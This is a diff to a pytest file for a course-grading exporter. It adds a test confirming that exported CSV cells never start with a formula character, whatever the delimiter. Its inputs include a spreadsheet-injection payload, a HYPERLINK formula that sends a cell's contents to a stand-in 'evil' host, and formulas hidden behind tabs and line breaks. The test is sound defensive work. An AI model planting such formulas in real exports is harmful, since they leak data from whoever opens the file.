@@ -37,8 +37,8 @@ IDEA, REASON = (item.text for item in RUBRIC)
 def a_lab(rubric: Sequence[RubricItem] = ()) -> Course:
     course = Course(name="Convolution", assignments={"lab": Assignment(title="Lab", questions=[
         Question(name="twice", title="Twice", points=Decimal(2)),
-        Question(name="essay", title="Why?", points=Decimal(3), kind="text",
-                 rubric=list(rubric))])})
+        Question(name="essay", title="Why?", kind="text", rubric=list(rubric),
+                 points=sum((item.points for item in rubric), Decimal(0)) or Decimal(3))])})
     course.assignment("lab")._name = "lab"
     return course
 
@@ -102,6 +102,19 @@ def test_a_mark_by_an_earlier_rubric_stays_as_it_is(items: dict[str, Decimal]) -
 
 def test_no_spreadsheet_takes_a_digest_for_a_number() -> None:
     assert not {fingerprint(str(text))[0] for text in range(50)} & set("0123456789+-.eEinfN")
+
+
+@pytest.mark.parametrize("text", [
+    "harmless", 'x\n=HYPERLINK("http://evil/?"&A1,"click")', "x\t=1+1", "x\n\n  @SUM(1)", "a;-1",
+    "x\r=1+1", "x\n=1\n=2", "=1\t\t=2"])
+def test_no_part_of_a_text_is_a_formula_by_whatever_separator(text: str) -> None:
+    table = exported(a_lab(), Answer("ann", text, a_mark("1", text)))
+    for separator in ",;\t|":
+        for row in csv.reader(io.StringIO(table, newline=""), delimiter=separator):
+            assert not [cell for cell in row if cell.lstrip().startswith(tuple("=+-@"))]
+        rows = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
+        if separator == "\t" and "\t=" in text:  # control: without our doing
+            assert [cell for row in rows for cell in row if cell.startswith("=")]
 
 
 # What changes something -----------------------------------------------------------------------
@@ -187,7 +200,7 @@ def test_a_student_has_one_row() -> None:
 @pytest.mark.parametrize(("cells", "words"), [
     ({IDEA: "1"}, "1 of 2 lines of the rubric have points"),
     ({IDEA: "1.5", REASON: "1"}, "'1.5' is no number from 0 to 1"),
-    ({IDEA: "1", REASON: "1", "points": "3"}, "has 3 points, and 2 by its rubric"),
+    ({IDEA: "1", REASON: "1", "points": "2.5"}, "has 2.5 points, and 2 by its rubric"),
 ])
 def test_a_rubric_is_filled_in_whole_and_agrees_with_the_points(
     cells: dict[str, str], words: str
